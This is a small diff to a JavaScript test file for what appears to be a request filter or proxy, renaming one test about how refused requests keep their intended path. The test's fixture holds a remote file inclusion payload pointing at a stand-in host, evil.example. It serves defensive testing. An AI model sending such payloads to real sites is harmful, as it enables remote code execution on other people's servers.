@@ -427,7 +427,7 @@ test('the verdict on a blocked request has no path and no host to forward', () =
   assert.deepEqual([path, host, upgrade, strip], ['', '', false, []]);
 });
 
-test('the path of a refused request that names no destination still tells what the sender is after', () => {
+test('the path of a refused request without a destination still gives the intent', () => {
   const attack = '/index.php?mosConfig_absolute_path=http://evil.example/x.txt';
   const { rule, wanted } = judge({ ...request(attack, ...own), method: 'TRACE' }, policy);
   assert.deepEqual([rule, wanted?.host, wanted?.path], ['trace', '', attack]);
